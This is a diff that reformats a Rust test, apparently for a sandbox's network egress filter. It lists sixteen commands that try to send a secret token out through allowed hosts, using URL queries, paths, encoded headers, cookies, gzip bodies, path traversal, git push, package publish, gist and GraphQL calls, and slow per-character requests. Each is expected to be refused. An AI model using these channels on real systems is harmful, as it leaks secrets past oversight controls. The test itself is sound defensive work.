@@ -69,22 +69,86 @@ const SLOW: usize = 6;
 /// The path at which each attempt arrives if it works, by its name, and what it does; `fetch` is curl with
 /// the certificate of the server.
 const ATTEMPTS: [(&str, &str, Refused); 16] = [
-    ("query", "fetch https://forum.test:$PORT/query?q=$TOKEN", Refused("content", "/query")),
-    ("path", "fetch https://forum.test:$PORT/path/$TOKEN/x", Refused("content", "/path/")),
-    ("field", "fetch -H \"X-Trace: $(printf %s \"$TOKEN\" | base64)\" https://forum.test:$PORT/field", Refused("content", "/field")),
-    ("cookie", "fetch -H \"Cookie: a=$TOKEN\" https://forum.test:$PORT/cookie", Refused("content", "/cookie")),
-    ("paste", "fetch -d \"text=$TOKEN\" https://forum.test:$PORT/paste", Refused("content", "/paste")),
-    ("packed", "printf 'page %s' $TOKEN | gzip | fetch --data-binary @- https://forum.test:$PORT/packed", Refused("content", "/packed")),
-    ("method", "fetch -d x https://pages.test:$PORT/docs/method", Refused("", "/docs/method")),
-    ("other-path", "fetch https://pages.test:$PORT/other-path?a=b", Refused("", "/other-path")),
-    ("climbing", "fetch --path-as-is https://pages.test:$PORT/docs/../climbing", Refused("", "climbing")),
-    ("push", "git push -q https://git.test:$PORT/other/push.git HEAD:refs/heads/topic", Refused("", "git.test")),
-    ("publish", "fetch -X PUT -d '{\"name\":\"publish\"}' https://registry.test:$PORT/publish", Refused("", "/publish")),
-    ("gist", "fetch -d '{\"files\":{}}' https://api.test:$PORT/gists", Refused("", "/gists")),
-    ("graphql", "fetch -d '{\"query\":\"mutation { addStar(input: {}) { id } }\"}' https://api.test:$PORT/graphql", Refused("", "/graphql")),
-    ("images", "for c in s e c r e t i s; do fetch https://images.test:$PORT/images/$c || exit 1; done", Refused("requests-per-minute-max", "images.test")),
-    ("counters", "for r in $(seq 64); do fetch https://counters.test:$PORT/counters/repo-$r || exit 1; done", Refused("requests-per-minute-max", "counters.test")),
-    ("upload", "head -c 5000 /dev/zero | fetch -H Expect: --data-binary @- https://small.test:$PORT/upload", Refused("bytes-max", "/upload")),
+    (
+        "query",
+        "fetch https://forum.test:$PORT/query?q=$TOKEN",
+        Refused("content", "/query"),
+    ),
+    (
+        "path",
+        "fetch https://forum.test:$PORT/path/$TOKEN/x",
+        Refused("content", "/path/"),
+    ),
+    (
+        "field",
+        "fetch -H \"X-Trace: $(printf %s \"$TOKEN\" | base64)\" https://forum.test:$PORT/field",
+        Refused("content", "/field"),
+    ),
+    (
+        "cookie",
+        "fetch -H \"Cookie: a=$TOKEN\" https://forum.test:$PORT/cookie",
+        Refused("content", "/cookie"),
+    ),
+    (
+        "paste",
+        "fetch -d \"text=$TOKEN\" https://forum.test:$PORT/paste",
+        Refused("content", "/paste"),
+    ),
+    (
+        "packed",
+        "printf 'page %s' $TOKEN | gzip | fetch --data-binary @- https://forum.test:$PORT/packed",
+        Refused("content", "/packed"),
+    ),
+    (
+        "method",
+        "fetch -d x https://pages.test:$PORT/docs/method",
+        Refused("", "/docs/method"),
+    ),
+    (
+        "other-path",
+        "fetch https://pages.test:$PORT/other-path?a=b",
+        Refused("", "/other-path"),
+    ),
+    (
+        "climbing",
+        "fetch --path-as-is https://pages.test:$PORT/docs/../climbing",
+        Refused("", "climbing"),
+    ),
+    (
+        "push",
+        "git push -q https://git.test:$PORT/other/push.git HEAD:refs/heads/topic",
+        Refused("", "git.test"),
+    ),
+    (
+        "publish",
+        "fetch -X PUT -d '{\"name\":\"publish\"}' https://registry.test:$PORT/publish",
+        Refused("", "/publish"),
+    ),
+    (
+        "gist",
+        "fetch -d '{\"files\":{}}' https://api.test:$PORT/gists",
+        Refused("", "/gists"),
+    ),
+    (
+        "graphql",
+        "fetch -d '{\"query\":\"mutation { addStar(input: {}) { id } }\"}' https://api.test:$PORT/graphql",
+        Refused("", "/graphql"),
+    ),
+    (
+        "images",
+        "for c in s e c r e t i s; do fetch https://images.test:$PORT/images/$c || exit 1; done",
+        Refused("requests-per-minute-max", "images.test"),
+    ),
+    (
+        "counters",
+        "for r in $(seq 64); do fetch https://counters.test:$PORT/counters/repo-$r || exit 1; done",
+        Refused("requests-per-minute-max", "counters.test"),
+    ),
+    (
+        "upload",
+        "head -c 5000 /dev/zero | fetch -H Expect: --data-binary @- https://small.test:$PORT/upload",
+        Refused("bytes-max", "/upload"),
+    ),
 ];
 
 /// The rule of the one refusal, none if no rule allows the request, and a part of its target.
@@ -104,12 +168,18 @@ const HOSTS: [&str; 8] = [
 /// Answers as a forge to git, which has no branch and takes every push, and `lab` to everything else.
 fn answer(request: &Request) -> Response {
     let line = |text: &str| format!("{:04x}{text}", text.len() + 4);
-    let (kind, body) = if request.target.ends_with("info/refs?service=git-receive-pack") {
-        let refs = format!(
-            "{} capabilities^{{}}\0report-status\n",
-            "0".repeat(40)
-        );
-        let said = [&line("# service=git-receive-pack\n"), "0000", &line(&refs), "0000"].concat();
+    let (kind, body) = if request
+        .target
+        .ends_with("info/refs?service=git-receive-pack")
+    {
+        let refs = format!("{} capabilities^{{}}\0report-status\n", "0".repeat(40));
+        let said = [
+            &line("# service=git-receive-pack\n"),
+            "0000",
+            &line(&refs),
+            "0000",
+        ]
+        .concat();
         ("application/x-git-receive-pack-advertisement", said)
     } else if request.path().ends_with("/git-receive-pack") {
         let said = [&line("unpack ok\n"), &line("ok refs/heads/topic\n"), "0000"].concat();
@@ -144,7 +214,9 @@ fn n24_allowed_hosts_carry_no_data_out() {
         .iter()
         .zip(&lines)
         .map(|((name, _, Refused(rule, target)), (inside, bare))| {
-            closed(name, inside).twin(bare).event("http.decided", rule, target)
+            closed(name, inside)
+                .twin(bare)
+                .event("http.decided", rule, target)
         })
         .collect();
     let options = |scene: &Scene| {
@@ -176,7 +248,10 @@ fn n24_allowed_hosts_carry_no_data_out() {
     let requests = server.requests();
     let arrived = |name: &str| {
         let part = format!("/{name}");
-        requests.iter().filter(|one| one.target.contains(&part)).count()
+        requests
+            .iter()
+            .filter(|one| one.target.contains(&part))
+            .count()
     };
     let users = User::all().len();
     for (name, ..) in ATTEMPTS {
